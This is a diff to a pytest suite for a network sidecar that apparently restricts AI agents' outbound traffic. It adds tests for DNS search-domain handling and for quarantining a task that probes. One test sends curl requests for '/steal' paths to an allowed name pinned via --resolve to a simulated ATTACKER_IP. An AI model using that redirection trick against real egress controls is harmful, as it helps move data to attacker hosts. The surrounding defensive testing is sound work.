@@ -13,6 +13,7 @@ attacker; a name inside the task resolves, and its call works.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import subprocess
@@ -26,9 +27,9 @@ import yaml
 
 from sidecar.harness import AuthzStack, ManagedProcess, http_get, wait_until
 from sidecar.identity.devca import DevCA
+from sidecar.simulation.netns import AGENT_UID, ATTACKER_IP, POD_IP, PROXY_UID, UPSTREAM_IP, as_user, chown_tree
 from tests.support.certs import make_leaf, write_pair
 from tests.support.config import AGENT, base_config, task, write_config, write_keys
-from tests.support.netns import AGENT_UID, ATTACKER_IP, POD_IP, PROXY_UID, UPSTREAM_IP, as_user, chown_tree
 from tests.support.netns_pod import REPO, Pod, pod_sandbox, start_servers
 
 pytestmark = [
@@ -296,6 +297,69 @@ def test_names_probed_outside_the_task_quarantine_it(pod: ChannelPod) -> None:
     finally:
         config_path.write_text(original)
         wait_until(lambda: pod.curl(f"http://{API}/v1/items/1", *headers).status == 403, timeout=15, what="restore")
+
+
+def _task_ids(pod: ChannelPod) -> set[str]:
+    status, body = http_get(pod.stack.sidecar.admin_url + "/v1/tasks")
+    assert status == 200, body
+    return {t["id"] for t in json.loads(body)["tasks"]}
+
+
+@contextlib.contextmanager
+def _with_task(pod: ChannelPod, extra: dict[str, Any], *, first: bool = False) -> Iterator[None]:
+    """``extra`` added to the pod's tasks until the block ends (each reload waited for)."""
+    config_path = pod.state / "sidecar.yaml"
+    original = config_path.read_text()
+    config = yaml.safe_load(original)
+    config["tasks"].insert(0 if first else len(config["tasks"]), extra)
+    try:
+        config_path.write_text(yaml.safe_dump(config, sort_keys=False))
+        wait_until(lambda: extra["id"] in _task_ids(pod), timeout=15, what="reload")
+        yield
+    finally:
+        config_path.write_text(original)
+        wait_until(lambda: extra["id"] not in _task_ids(pod), timeout=15, what="restore")
+
+
+def test_search_domain_lookups_of_an_allowed_name_never_freeze_a_benign_agent(pod: ChannelPod) -> None:
+    """A resolv.conf as EKS or GKE writes it (a node search domain, ``ndots:5``) makes every lookup of
+    ``api.example.com`` ask ``api.example.com.corp.example`` first: refused and recorded, never a strike -
+    an agent doing only its task is not frozen."""
+    resolv = pod.net.hosts_file.parent / "resolv.conf"  # what `ip netns exec` mounts over /etc/resolv.conf
+    original = resolv.read_text()
+    benign = task("benign", egress=TASK["egress"][:1], quarantine={"threshold": 2, "window": "10m"})
+    headers = ("-H", "x-agent-task: benign")
+    with _with_task(pod, benign):
+        resolv.write_text(original + "search corp.example\noptions ndots:5\n")
+        try:
+            before = len(pod.records())
+            statuses = [pod.curl(f"http://{API}/v1/items/{i}", *headers).status for i in range(4)]
+            refused = [r for r in pod.new_records(before, protocol="dns") if r["reason"] == "dns_not_allowed"]
+            assert refused and {r["host"] for r in refused} == {f"{API}.corp.example"}, refused
+            assert statuses == [200] * 4 and not pod.new_records(before, reason="task_frozen")
+        finally:
+            resolv.write_text(original)
+
+
+def test_an_allowed_sni_sent_to_other_addresses_quarantines_the_task(pod: ChannelPod) -> None:
+    """Retrying an allowed SNI against addresses the name never resolved to is probing:
+    ``destination_mismatch`` counts, and the task is frozen."""
+    guarded = task("guarded", egress=TASK["egress"][1:], quarantine={"threshold": 2, "window": "10m"})
+    ca = str(pod.public / "ca.pem")
+    with _with_task(pod, guarded, first=True):
+        assert pod.curl(f"https://{SECURE}/hello", "--cacert", ca).status == 200
+        before = len(pod.records())
+        for i in range(2):
+            reply = pod.curl(f"https://{SECURE}/steal{i}", "--cacert", ca, "--resolve", f"{SECURE}:443:{ATTACKER_IP}")
+            assert reply.status is None, reply
+        mismatches = pod.new_records(before, reason="destination_mismatch")
+        assert [r["task_id"] for r in mismatches] == ["guarded"] * 2
+        frozen = pod.wait_record(before, reason="task_frozen")
+        assert frozen["action"]["evidence"] == [r["decision_id"] for r in mismatches]
+        status, body = http_get(pod.stack.sidecar.admin_url + "/v1/control/actions")
+        blocked = {b["task_id"]: b["reason"] for b in json.loads(body)["blocked"]}
+        assert status == 200 and blocked.get("guarded") == "task_quarantined", blocked
+        assert pod.attacker() == []
 
 
 @pytest.mark.parametrize("transport", ["udp", "tcp"])
